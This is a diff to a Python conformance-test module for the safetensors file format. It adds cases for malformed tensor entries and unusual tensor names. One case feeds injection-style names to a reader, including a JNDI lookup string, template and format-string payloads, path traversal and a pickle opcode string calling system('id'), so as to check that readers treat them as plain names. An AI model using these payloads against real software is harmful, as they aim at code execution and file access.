@@ -1,18 +1,26 @@
-"""Entries: what stands under a tensor's name, its three fields, and values that only look like an entry."""
+"""Entries: what stands under a tensor's name, its three fields, and the names themselves.
+
+Values only look like an entry, faults stand in the first, the middle or the last of three, and names tempt a
+program to do something with them.
+"""
 
 from __future__ import annotations
 
 import json
 from itertools import permutations
-from typing import TYPE_CHECKING
 
-from ...author.case import ACCEPT, accepts, chooses, reject, rejects
-from ...author.parts import ENTRY, PLACES, RARE
+from safetensors_reference.rules.dtypes import DTYPE_BITS
 
-if TYPE_CHECKING:
-    from ...author.file import FileBuilder
+from ..author.case import ACCEPT, Options, accepts, chooses, reject, rejects
+from ..author.file import FileBuilder
+from ..author.parts import ENTRY, PLACES, RARE, header_text, renamed_field, three_tensors
 
 FIELDS = ("dtype", "shape", "data_offsets")
+ONE = ("F32", [1])
+"""Dtype and shape of tensors that only stand beside the one in question."""
+AS_ARRAY: Options = {"reject": reject("ENT_NOT_OBJECT"), "accept": ACCEPT}
+UNKNOWN: Options = {"reject": reject("ENT_UNKNOWN_FIELD"), "ignore": ACCEPT}
+RENAMED = ("ENT_MISSING_FIELD", "ENT_UNKNOWN_FIELD")
 EMPTY = '"dtype":"F32","shape":[0],"data_offsets":[0,0]'
 """Fields of a tensor without bytes: an entry that is not understood then leaves no hole."""
 
@@ -45,7 +53,7 @@ def value_of_other_type(f: FileBuilder, value: str) -> None:
     _beside_two(f, 2, value)
 
 
-@chooses("entry-as-array", "ENT-02", options={"reject": reject("ENT_NOT_OBJECT"), "accept": ACCEPT})
+@chooses("entry-as-array", "ENT-02", options=AS_ARRAY)
 def array_alone(f: FileBuilder) -> None:
     """The only tensor is written as an array: dtype, shape, data_offsets.
 
@@ -54,12 +62,10 @@ def array_alone(f: FileBuilder) -> None:
     f.tensor("w", "F32", [2], value='["F32",[2],[0,8]]')
 
 
-@chooses("entry-as-array", "ENT-02", options={"reject": reject("ENT_NOT_OBJECT"), "accept": ACCEPT})
+@chooses("entry-as-array", "ENT-02", options=AS_ARRAY)
 def array_beside_objects(f: FileBuilder) -> None:
     """One of three tensors is written as an array, the others as objects."""
-    f.tensor("a", "F32", [1])
-    f.tensor("b", "F32", [1], value='["F32",[1],[4,8]]')
-    f.tensor("c", "F32", [1])
+    three_tensors(f, 1, usual=ONE, value='["F32",[1],[4,8]]')
 
 
 @rejects(
@@ -107,15 +113,15 @@ def data_offsets_missing(f: FileBuilder, value: int) -> None:
     _beside_two(f, value, '{"dtype":"F32","shape":[0]}')
 
 
-@rejects("ENT-03", codes=("ENT_MISSING_FIELD", "ENT_UNKNOWN_FIELD"))
+@rejects("ENT-03", codes=RENAMED)
 def data_offsets_called_offsets(f: FileBuilder) -> None:
     """The range stands under the name offsets, as in an early draft of the format."""
-    f.tensor("w", "F32", [2], fields={"data_offsets": None, "offsets": "[0,8]"})
+    renamed_field(f, "data_offsets", "offsets")
 
 
 @rejects(
     "ENT-05",
-    codes=("ENT_MISSING_FIELD", "ENT_UNKNOWN_FIELD"),
+    codes=RENAMED,
     over={
         "dtype-capitalised": ("dtype", "Dtype"),
         "shape-upper-case": ("shape", "SHAPE"),
@@ -129,15 +135,13 @@ def field_name_variant(f: FileBuilder, value: tuple[str, str]) -> None:
 
     Some JSON libraries match names without regard to case unless told otherwise.
     """
-    plain, spelled = value
-    texts = {"dtype": '"F32"', "shape": "[2]", "data_offsets": "[0,8]"}
-    f.tensor("w", "F32", [2], fields={plain: None, spelled: texts[plain]})
+    renamed_field(f, *value)
 
 
 @chooses("rare-ignored-values", options=RARE, over={"long-string": {"x": '"' + "y" * 30_000 + '"'}})
 @chooses(
     "unknown-entry-fields",
-    options={"reject": reject("ENT_UNKNOWN_FIELD"), "ignore": ACCEPT},
+    options=UNKNOWN,
     over={
         "number": {"x": "1"},
         "string": {"x": '"y"'},
@@ -165,7 +169,7 @@ def unknown_field_in_front(f: FileBuilder) -> None:
     f.tensor("w", "F32", [2], value="{" + quoted + ',"dtype":"F32","shape":[2],"data_offsets":[0,8]}')
 
 
-@accepts("HDR-15", "HDR-10", "ENT-03")
+@accepts("HDR-15 HDR-10 ENT-03")
 def field_names_escaped(f: FileBuilder) -> None:
     """The three field names are written with JSON escapes.
 
@@ -238,7 +242,7 @@ def name_like(f: FileBuilder, value: str) -> None:
     f.tensor(value, "F32", [2])
 
 
-@accepts("ENT-09", "HDR-19", importance="high")
+@accepts("ENT-09 HDR-19", importance="high")
 def names_of_object_members(f: FileBuilder) -> None:
     """Tensors carry the names __proto__, constructor, toString and hasOwnProperty.
 
@@ -248,14 +252,14 @@ def names_of_object_members(f: FileBuilder) -> None:
         f.tensor(name, "F32", [1])
 
 
-@accepts("ENT-09", "HDR-19")
+@accepts("ENT-09 HDR-19")
 def names_of_fields(f: FileBuilder) -> None:
     """Tensors carry the names dtype, shape and data_offsets."""
     for name in FIELDS:
         f.tensor(name, "F32", [1])
 
 
-@accepts("ENT-09", "HDR-17")
+@accepts("ENT-09 HDR-17")
 def names_of_digits(f: FileBuilder) -> None:
     """Tensors are named 2, 10, 1 and 01.
 
@@ -287,7 +291,7 @@ def two_names(f: FileBuilder, value: tuple[str, str]) -> None:
     f.tensor(value[1], "F32", [1], b"\x00\x00\x00\x40")
 
 
-@accepts("HDR-19", "ENT-09")
+@accepts("HDR-19 ENT-09")
 def name_is_prefix_of_another(f: FileBuilder) -> None:
     """The names a, a.b and a/b stand side by side.
 
@@ -319,7 +323,7 @@ def value_is_entry_as_text(f: FileBuilder) -> None:
     f.tensor("w", "F32", [2], value=json.dumps(ENTRY))
 
 
-@rejects("SHP-01", "ENT-01", codes="SHP_BAD_TYPE", over={"alone": "[null]", "behind-two": "[2,null]"})
+@rejects("SHP-01 ENT-01", codes="SHP_BAD_TYPE", over={"alone": "[null]", "behind-two": "[2,null]"})
 def dimension_null_beside_empty_range(f: FileBuilder, shape: str) -> None:
     """The shape is $value, and the range is empty.
 
@@ -329,10 +333,7 @@ def dimension_null_beside_empty_range(f: FileBuilder, shape: str) -> None:
 
 
 @chooses(
-    "unknown-entry-fields",
-    "DAT-03",
-    options={"reject": reject("ENT_UNKNOWN_FIELD"), "ignore": ACCEPT},
-    over={"column-major": "[1,2]", "row-major": "[3,1]"},
+    "unknown-entry-fields", "DAT-03", options=UNKNOWN, over={"column-major": "[1,2]", "row-major": "[3,1]"}
 )
 def strides_of_matrix(f: FileBuilder, strides: str) -> None:
     """A field that the format does not have gives strides to a matrix: $slug.
@@ -340,3 +341,247 @@ def strides_of_matrix(f: FileBuilder, strides: str) -> None:
     Elements are stored row by row whatever it says.
     """
     f.tensor("w", "F32", [2, 3], fields={"strides": strides})
+
+
+# One of three, and names that come again
+
+
+@rejects("ENT-03", codes="ENT_MISSING_FIELD", over=PLACES)
+def dtype_missing(f: FileBuilder, value: int) -> None:
+    """The $slug of three entries has no dtype.
+
+    Taking the dtype of the neighbour, or that of a variable left over from it, fits the size.
+    """
+    three_tensors(f, value, usual=ONE, fields={"dtype": None})
+
+
+@rejects("ENT-03", codes="ENT_MISSING_FIELD", over=PLACES)
+def shape_missing(f: FileBuilder, value: int) -> None:
+    """The $slug of three entries has no shape.
+
+    A missing shape is not the empty one of a scalar, although the range would fit it.
+    """
+    three_tensors(f, value, usual=ONE, fields={"shape": None})
+
+
+@rejects("ENT-03", codes="ENT_MISSING_FIELD", over={"dtype": "dtype", "shape": "shape", "offsets": FIELDS[2]})
+def only_one_field(f: FileBuilder, value: str) -> None:
+    """An entry has one field and no other: $slug."""
+    f.tensor("w", "U8", [0], fields={name: None for name in FIELDS if name != value})
+
+
+@rejects("ENT-01", codes="ENT_NOT_OBJECT", over={"first": 0, "middle": 1})
+def value_number(f: FileBuilder, value: int) -> None:
+    """The $slug of three names has a number for an entry."""
+    _beside_two(f, value, "0")
+
+
+@rejects("ENT-01", codes="ENT_NOT_OBJECT", over={"false": "false", "empty-string": '""', "digits": '"[0,0]"'})
+def value_of_another_type(f: FileBuilder, value: str) -> None:
+    """A name stands over a value that is no object, between two tensors: $slug."""
+    f.tensor("a", "F32", [1])
+    f.member('"note"', value)
+    f.tensor("b", "F32", [1])
+
+
+@chooses("entry-as-array", "ENT-02", options=AS_ARRAY, over={"first": 0, "last": 2})
+def array_as(f: FileBuilder, value: int) -> None:
+    """The $slug of three tensors is written as an array, the others as objects."""
+    three_tensors(f, value, usual=ONE, value=f'["F32",[1],[{4 * value},{4 * value + 4}]]')
+
+
+@rejects("HDR-12", codes="HDR_DUP_KEY", importance="high", over=PLACES)
+def dtype_twice(f: FileBuilder, value: int) -> None:
+    """The $slug of three entries has its dtype twice, first one of the same width.
+
+    Keeping either gives a tensor that fits, with other numbers in it.
+    """
+    fields = f'"dtype":"F32","shape":[1],"data_offsets":[{4 * value},{4 * value + 4}]'
+    three_tensors(f, value, usual=ONE, value=f'{{"dtype":"I32",{fields}}}')
+
+
+@rejects("ENT-03 ENT-06", codes="ENT_MISSING_FIELD", over={name.replace("_", "-"): name for name in FIELDS})
+def other_order_without(f: FileBuilder, value: str) -> None:
+    """The fields stand in reversed order, and one of them is missing: $slug.
+
+    The order is free, the number of fields is not.
+    """
+    f.tensor("w", "F32", [1], order=FIELDS[::-1], fields={value: None})
+
+
+@rejects("HDR-12 ENT-06", codes="HDR_DUP_KEY", importance="high")
+def other_order_with_repetition(f: FileBuilder) -> None:
+    """The range stands first and, with the same offsets, last again."""
+    fields = '"data_offsets":[0,8],"shape":[2],"dtype":"F32","data_offsets":[0,8]'
+    f.tensor("w", "F32", [2], value="{" + fields + "}")
+
+
+@accepts("ENT-01 MET-05 MET-09")
+def names_like_file_properties(f: FileBuilder) -> None:
+    """Tensors are named metadata, format, version, header and in other ways like the file itself.
+
+    Every key but the reserved one names a tensor, however much it sounds like something else.
+    """
+    for name in ("metadata", "format", "version", "$schema", "_comment", "header"):
+        f.tensor(name, "F32", [1])
+
+
+@accepts("ENT-09 ENT-01")
+def names_like_entries(f: FileBuilder) -> None:
+    """Tensor names spell what an entry must not be: an array, null, a number, an empty object."""
+    for name in ('["F32",[1],[0,4]]', "null", "0", "{}", "true", '{"dtype":"U8"}'):
+        f.tensor(name, "F32", [1])
+
+
+@accepts("ENT-01 ENT-05")
+def names_like_misspelled_fields(f: FileBuilder) -> None:
+    """Tensors carry the names Dtype, SHAPE, dataOffsets and offsets.
+
+    As fields of an entry these are wrong; as names they are as good as any.
+    """
+    for name in ("Dtype", "SHAPE", "dataOffsets", "offsets"):
+        f.tensor(name, "U8", [3])
+
+
+@rejects("ENT-05", codes=RENAMED, over=PLACES)
+def capital_letter_in_entry(f: FileBuilder, value: int) -> None:
+    """The $slug of three entries spells its shape with a capital letter."""
+    three_tensors(f, value, usual=ONE, fields={"shape": None, "Shape": "[1]"})
+
+
+@rejects(
+    "ENT-01 HDR-09",
+    codes=("ENT_NOT_OBJECT", "HDR_DUP_KEY"),
+    over={"null": "null", "number": "0", "string": '"F32"'},
+)
+def no_entry_and_then_again(f: FileBuilder, value: str) -> None:
+    """The name of a tensor stands twice, first with a value that is no entry ($slug).
+
+    Keeping the last of two values must not forgive what was wrong with the first.
+    """
+    header_text(f, f'{{"w":{value},"w":ENTRY}}')
+
+
+# Names that tempt a program
+
+
+@accepts(
+    "ENT-09",
+    importance="high",
+    over={
+        "dots": "..",
+        "dot-segments-of-windows": "..\\..\\escape",
+        "home-path": "~/escape",
+        "network-path": "\\\\server\\share",
+        "windows-device": "NUL",
+        "url": "https://user@example.invalid/w?x=1#y",
+        "shell-variable": "${HOME}",
+        "template": "{{7*7}}<%= 7 %>#{7}",
+        "lookup": "${jndi:ldap://example.invalid/a}",
+        "formula": "=1+1",
+        "option": "--help",
+        "wide-format": "%1000000d%n",
+        "pickle-opcode": "cos\nsystem\n(S'id'\ntR.",
+    },
+)
+def name_to_act_on(f: FileBuilder, value: str) -> None:
+    """A tensor name that some program acts on when it is not careful: $slug.
+
+    It is a name and nothing else, and comes back as it is.
+    """
+    f.tensor(value, "F32", [2])
+
+
+@accepts(
+    "ENT-08",
+    over={
+        "all-controls": "".join(map(chr, range(32))),
+        "second-control-block": "".join(map(chr, range(0x7F, 0xA0))),
+        "combining-marks-only": "\u0301\u0300\u0327",
+        "bidirectional-isolates": "\u2066a\u2067b\u2068c\u2069",
+        "tag-characters": "a\U000e0041\U000e0042\U000e007f",
+        "variation-selectors": "a\ufe0fb\U000e0100",
+        "private-use": "\ue000\U000f0000\U0010fffd",
+        "noncharacters": "\ufdd0\ufffe\U0001fffe\U0010ffff",
+        "joined-emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+        "long-cluster": "e" + "\u0301" * 200,
+    },
+)
+def name_of(f: FileBuilder, value: str) -> None:
+    """A tensor name made of rare characters: $slug.
+
+    The name is a sequence of code points; what they look like together is of no concern.
+    """
+    f.tensor(value, "F32", [2])
+
+
+@accepts(
+    "HDR-19",
+    importance="high",
+    over={
+        "zero-width-space": ("w", "w\u200b"),
+        "soft-hyphen": ("ab", "a\xadb"),
+        "variation-selector": ("\u2764", "\u2764\ufe0f"),
+        "wide-forms": ("\uff57", "w"),
+        "angstrom-and-ring": ("\u212b", "\xc5"),
+        "hangul-forms": ("\uac00", "\u1100\u1161"),
+        "order-of-marks": ("a\u0323\u0302", "a\u0302\u0323"),
+        "dotless-i": ("I", "\u0131"),
+        "sharp-s": ("\xdf", "ss"),
+        "line-ends": ("a\nb", "a\r\nb"),
+        "slashes": ("a/b", "a//b"),
+    },
+)
+def names_apart(f: FileBuilder, value: tuple[str, str]) -> None:
+    """Two names that cleaning, folding or normalising makes equal: $slug.
+
+    They are two tensors with different content.
+    """
+    f.tensor(value[0], "F32", [1], b"\x00\x00\x80\x3f")
+    f.tensor(value[1], "F32", [1], b"\x00\x00\x00\x40")
+
+
+@accepts("HDR-19 HDR-17")
+def names_sorted_otherwise(f: FileBuilder) -> None:
+    """Two names whose order in UTF-8 is not that in UTF-16.
+
+    A reader that searches a sorted list, sorted by one and compared by the other, misses a name.
+    """
+    for name in ("\U00010000", "\uffee", "\ud7ff", "z"):
+        f.tensor(name, "U8", [2])
+
+
+@accepts("ENT-09")
+def names_of_dtypes(f: FileBuilder) -> None:
+    """Every dtype code is also the name of a tensor, and never of that dtype."""
+    for name in DTYPE_BITS:
+        f.tensor(name, "I8" if name == "U8" else "U8", [8])
+
+
+@accepts("ENT-09 HDR-19", importance="high")
+def names_of_language_members(f: FileBuilder) -> None:
+    """Tensors carry the names of attributes and properties that objects have in script languages."""
+    for name in ("prototype", "length", "valueOf", "__init__", "__getattr__", "__dict__", "keys", "self"):
+        f.tensor(name, "U8", [2])
+
+
+@accepts("ENT-09", importance="high")
+def names_that_become_one_path(f: FileBuilder) -> None:
+    """Six names that a file system may take for one place, among them w, ./w, x/../w and W."""
+    for name in ("w", "./w", "x/../w", "W", "w.", "w/"):
+        f.tensor(name, "U8", [2])
+
+
+@accepts("ENT-10 ENT-08", importance="low")
+def name_of_30_kb_of_emoji(f: FileBuilder) -> None:
+    """A tensor name of 7,500 characters that take four bytes each.
+
+    Counted in characters, UTF-16 units or bytes it has three different lengths.
+    """
+    f.tensor("\U0001f917" * 7500, "F32", [2])
+
+
+@accepts("ENT-10", importance="low", over={"255": 255, "256": 256})
+def name_size(f: FileBuilder, value: int) -> None:
+    """A tensor name of $value characters, a size at which fixed buffers end."""
+    f.tensor("n" * value, "F32", [2])
